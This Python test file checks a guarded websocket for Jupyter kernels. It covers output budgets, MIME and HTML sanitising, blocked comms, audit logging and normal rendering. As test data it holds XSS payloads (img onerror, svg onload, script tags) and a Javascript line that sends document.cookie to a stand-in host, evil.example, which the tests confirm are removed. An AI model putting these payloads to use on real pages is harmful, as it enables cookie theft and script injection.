"""Kernel output through the guarded websocket: budgets, MIME policy, audit, and ordinary work.

Each attack runs over both websocket protocols where the protocol matters.
"""

from __future__ import annotations

import json

MIB = 1024 * 1024
CELL_BUDGET = 256 * 1024


def outputs(messages: list[dict]) -> list[dict]:
    return [m for m in messages if m["msg_type"] in ("stream", "display_data", "execute_result", "error")]


async def test_a_50_mb_print_does_not_reach_the_browser(any_kernel):
    ks = any_kernel
    before = ks.bytes_received()
    msgs = await ks.execute("print('Z' * (50 * 1024 * 1024))")
    received = ks.bytes_received() - before
    assert received < CELL_BUDGET + 64 * 1024
    text = "".join(m["content"].get("text", "") for m in outputs(msgs))
    assert "output withheld" in text
    assert [m for m in msgs if m["msg_type"] == "execute_reply"][0]["content"]["status"] == "ok"


async def test_many_small_prints_are_held_to_the_cell_budget(kernel):
    before = kernel.bytes_received()
    msgs = await kernel.execute(
        "import sys\nfor i in range(4000):\n    print('y' * 1000)\n    sys.stdout.flush()")
    received = kernel.bytes_received() - before
    # The budget counts shown text; each message also carries a few hundred bytes of headers.
    shown = sum(len(m["content"].get("text", "")) for m in outputs(msgs))
    assert shown < CELL_BUDGET + 4096
    assert received < 4000 * 1000


async def test_html_download_link_is_removed(any_kernel):
    ks = any_kernel
    msgs = await ks.execute(
        "from IPython.display import HTML, display\n"
        "display(HTML('<a download=\"people.csv\" href=\"data:text/csv;base64,aWQsbmFtZQ==\">get</a>"
        "<a href=\"blob:http://x/1\">b</a><img src=x onerror=\"fetch(1)\"><script>alert(1)</script>'))")
    # What came back, except the echo of the code itself (execute_input).
    frames = json.dumps([m for m in msgs if m["msg_type"] != "execute_input"]).encode()
    for forbidden in (b"data:text/csv", b"aWQsbmFtZQ==", b"download", b"blob:", b"onerror", b"<script"):
        assert forbidden not in frames
    html = [m for m in msgs if m["msg_type"] == "display_data"][0]["content"]["data"]
    assert "get" in html.get("text/html", "")


async def test_javascript_output_is_dropped(any_kernel):
    ks = any_kernel
    msgs = await ks.execute(
        "from IPython.display import Javascript, display\n"
        "display(Javascript('fetch(\"https://evil.example/\" + document.cookie)'))\n"
        "display({'application/pdf': 'JVBERi0xLjQK', 'image/svg+xml': '<svg onload=alert(1)/>'}, raw=True)")
    frames = json.dumps([m for m in msgs if m["msg_type"] != "execute_input"]).encode()
    for forbidden in (b"evil.example", b"document.cookie", b"JVBERi0", b"<svg", b"onload"):
        assert forbidden not in frames
    shown = [m["content"]["data"] for m in msgs if m["msg_type"] == "display_data"]
    assert len(shown) == 2 and all(set(d) == {"text/plain"} for d in shown)
    assert "type not allowed: application/pdf, image/svg+xml" in shown[1]["text/plain"]


async def test_user_expressions_do_not_carry_data_back(kernel, guard_server):
    (guard_server.home / "secret.txt").write_text("Ada Lovelace 91234")
    msgs = await kernel.execute("x = 1", user_expressions={"leak": "open('secret.txt').read()"})
    reply = [m for m in msgs if m["msg_type"] == "execute_reply"][0]
    assert reply["content"]["user_expressions"] == {}
    assert b"Ada Lovelace" not in b"".join(kernel.raw_frames)


async def test_comms_and_debugger_requests_do_not_reach_the_kernel(kernel):
    await kernel.send("comm_open", {"comm_id": "c1", "target_name": "jupyter.widget", "data": {}})
    await kernel.send("debug_request", {"type": "request", "seq": 1, "command": "debugInfo", "arguments": {}}, "control")
    # The kernel only ever sees the executions: its comm registry stays empty.
    msgs = await kernel.execute("print(len(get_ipython().kernel.comm_manager.comms))")
    text = "".join(m["content"].get("text", "") for m in outputs(msgs))
    assert text.strip() == "0"


async def test_every_execution_is_in_the_audit_trail(kernel, guard_server):
    code = "audit_probe = 6 * 7"
    await kernel.execute(code)
    records = [r for r in guard_server.audit_records() if r["kind"] == "execution" and r["code"] == code]
    assert len(records) == 1
    rec = records[0]
    assert rec["workspace"] == "demo" and rec["owner"] == "alice" and rec["kernel_id"]
    assert rec["notebook"].endswith(".ipynb")


async def test_ordinary_work_still_renders(kernel_v1):
    """pandas tables keep their HTML (sanitised), matplotlib plots arrive as PNG, errors show."""
    msgs = await kernel_v1.execute(
        "import pandas as pd\npd.DataFrame({'a': [1, 2], 'b': ['x', 'y']})")
    result = [m for m in msgs if m["msg_type"] == "execute_result"][0]["content"]["data"]
    assert "<table" in result["text/html"] and "<td>x</td>" in result["text/html"]
    msgs = await kernel_v1.execute(
        "import matplotlib\nmatplotlib.use('module://matplotlib_inline.backend_inline')\n"
        "import matplotlib.pyplot as plt\nplt.plot([1, 2, 3]); plt.show()")
    images = [m["content"]["data"] for m in msgs if m["msg_type"] == "display_data"]
    assert any("image/png" in d for d in images)
    msgs = await kernel_v1.execute("1/0")
    error = [m for m in msgs if m["msg_type"] == "error"][0]["content"]
    assert error["ename"] == "ZeroDivisionError" and error["traceback"]


async def test_acro_uses_the_workspace_thresholds(kernel):
    msgs = await kernel.execute(
        "from enclave_guard.disclosure import workspace_acro\nprint(workspace_acro().config['safe_threshold'])")
    text = "".join(m["content"].get("text", "") for m in outputs(msgs))
    assert text.strip().splitlines()[-1] == "7"
